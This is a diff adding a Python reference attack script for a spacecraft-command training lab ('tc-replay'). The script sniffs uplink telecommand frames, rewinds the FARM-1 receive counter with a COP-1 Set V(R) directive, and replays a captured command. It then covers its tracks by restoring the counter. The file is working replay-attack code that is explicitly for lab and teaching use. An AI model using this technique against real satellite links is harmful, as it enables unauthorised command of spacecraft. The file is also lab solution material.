@@ -1,0 +1,66 @@
+"""Reference attack for tc-replay: run on the attacker workstation, as the student.
+
+1. Listen on the uplink air (UDP 5101 on the rf segment: the rf-link broadcasts every
+   uplink frame there) until mission control sends a command: the first type-AD frame.
+2. Set FARM-1's V(R) back to that frame's N(S) with a COP-1 Set V(R) directive (control
+   commands go in the clear), then transmit the frame unchanged to rf-link:5100. With
+   anti-replay off, SDLS accepts the old sequence number and the command runs again.
+3. Set V(R) to N(S) + 1 so the ground station's FOP-1 carries on undisturbed.
+
+Exit status 0 when a frame was captured and replayed, 2 when nothing was heard.
+"""
+
+from __future__ import annotations
+
+import socket
+import sys
+import time
+
+from labctl.protocols.tc_frame import FrameKind, TcFrame, set_vr_frame
+
+LISTEN_S = 45.0
+RF_LINK = ("rf-link", 5100)
+
+
+def sniff_uplink(seconds: float) -> bytes | None:
+    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
+        sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
+        sock.bind(("", 5101))
+        sock.settimeout(seconds)
+        try:
+            while True:
+                datagram = sock.recv(2048)
+                try:
+                    if TcFrame.decode(datagram).kind is FrameKind.AD:
+                        return datagram
+                except ValueError:
+                    continue
+        except TimeoutError:
+            return None
+
+
+def replay(datagram: bytes) -> None:
+    frame = TcFrame.decode(datagram)
+    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
+        for packet in (
+            set_vr_frame(frame.scid, frame.vcid, frame.seq).encode(),
+            datagram,
+            set_vr_frame(frame.scid, frame.vcid, (frame.seq + 1) % 256).encode(),
+        ):
+            sock.sendto(packet, RF_LINK)
+            time.sleep(0.3)
+    print(f"replayed frame N(S)={frame.seq} SCID={frame.scid}: {len(datagram)} octets")
+
+
+def main() -> int:
+    print("listening on the uplink air (UDP 5101)...", flush=True)
+    datagram = sniff_uplink(LISTEN_S)
+    if datagram is None:
+        print("no uplink frame heard")
+        return 2
+    replay(datagram)
+    return 0
+
+
+if __name__ == "__main__":
+    sys.exit(main())
